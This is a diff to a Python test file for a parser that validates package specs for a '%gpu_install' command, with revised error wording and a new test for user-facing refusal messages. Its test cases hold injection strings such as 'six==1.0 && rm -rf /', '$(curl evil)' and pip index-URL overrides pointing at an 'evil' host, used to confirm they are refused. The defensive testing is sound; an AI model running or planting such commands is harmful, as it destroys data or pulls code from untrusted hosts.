@@ -24,16 +24,16 @@ def test_valid_specs(text, name, arg):
 @pytest.mark.parametrize(
     "text, words",
     [
-        ("--index-url=http://evil", "pip option"),
-        ("-r requirements.txt", "pip option"),
-        ("-e .", "pip option"),
-        ("six --index-url http://evil", "pip option"),
-        ("six;--extra-index-url=http://evil", "pip option"),
+        ("--index-url=http://evil", "is a pip option, not a package"),
+        ("-r requirements.txt", "not a package requirement"),
+        ("-e .", "not a package requirement"),
+        ("six --index-url http://evil", "not a package requirement"),
+        ("six;--extra-index-url=http://evil", "not a package requirement"),
         ("six\n--index-url http://evil", "control characters"),
         ("six; python_version > '3'", "markers"),
-        ("six==1.0 && rm -rf /", "pip option"),
-        ("six==1.0 && touch /tmp/owned", "not a valid package spec"),
-        ("$(curl evil)", "not a valid package spec"),
+        ("six==1.0 && rm -rf /", "not a package requirement"),
+        ("six==1.0 && touch /tmp/owned", "not a package requirement"),
+        ("$(curl evil)", "not a package requirement"),
         ("https://evil.example/x.whl", "bare URL"),
         ("six @ https://example.org/six.whl", "--allow-url"),
         ("six @ ftp://example.org/six.whl", "not supported"),
@@ -45,6 +45,27 @@ def test_valid_specs(text, name, arg):
 def test_refused_specs(text, words):
     with pytest.raises(SpecError, match=words):
         parse_spec(text)
+
+
+def test_a_shell_command_in_a_spec_is_refused_in_the_users_words():
+    """What a user sees for `%gpu_install 'six; rm -rf /'`: what is wrong and what to type."""
+    with pytest.raises(SpecError) as refused:
+        options.parse("'six; rm -rf /'")
+    assert str(refused.value) == (
+        "`six; rm -rf /` is not a package requirement: %gpu_install takes package names "
+        "like `six` or `six==1.17.0`, one per word (it runs no shell commands)."
+    )
+    assert "pip option" not in str(refused.value)
+    with pytest.raises(SpecError) as refused:
+        parse_spec("--index-url=http://evil")  # one word, as in a list of specs
+    assert str(refused.value).startswith(
+        "`--index-url=http://evil` is a pip option, not a package: %gpu_install takes "
+        "package names like `six` or `six==1.17.0`, one per word, and options of its own"
+    )
+    with pytest.raises(SpecError) as refused:  # a long spec is shown cut, and says so
+        options.parse("'six; " + "x" * 500 + "'")
+    assert "x" * 60 + "…` is not a package requirement" in str(refused.value)
+    assert "x" * 100 not in str(refused.value)
 
 
 def test_urls_and_local_files_need_explicit_permission(tmp_path):
